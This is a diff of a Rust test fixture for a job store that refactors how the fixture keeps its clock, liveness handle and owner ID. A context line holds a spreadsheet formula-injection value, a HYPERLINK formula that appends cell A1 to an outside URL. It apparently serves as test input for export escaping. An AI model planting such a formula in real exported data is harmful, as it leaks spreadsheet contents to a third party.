@@ -23,15 +23,16 @@ pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://example.com?\"&A1)";
 pub(crate) struct Zoo {
     pub(crate) store: Arc<dyn JobStore>,
     pub(crate) clock: Arc<ManualClock>,
+    pub(crate) living: Arc<Living>,
 }
 
+/// Who has opened it.
+pub(crate) const OWNER: OwnerId = OwnerId::from_bytes([0xab; 16]);
+
 pub(crate) fn open(place: &dyn Place) -> Zoo {
-    let clock = Arc::new(ManualClock::at(START_MS));
-    let options = OpenOptions::new()
-        .clock(clock.clone())
-        .liveness(Arc::new(Living::default()))
-        .owner(OwnerId::from_bytes([0xab; 16]));
-    Zoo { store: place.open(&options).expect("a new store opens"), clock }
+    let (clock, living) = (Arc::new(ManualClock::at(START_MS)), Arc::<Living>::default());
+    let options = OpenOptions::new().clock(clock.clone()).liveness(living.clone()).owner(OWNER);
+    Zoo { store: place.open(&options).expect("a new store opens"), clock, living }
 }
 
 fn chunks() -> Vec<NewChunk> {
@@ -59,7 +60,7 @@ async fn take(store: &dyn JobStore, chunk: u64) -> Claim {
 
 /// Fills a store.
 pub(crate) async fn fill(zoo: &Zoo) {
-    let Zoo { store, clock } = zoo;
+    let Zoo { store, clock, .. } = zoo;
     let spec = JobSpec::new()
         .name("zoo, \"all\" animals")
         .lease_ms(30_000)
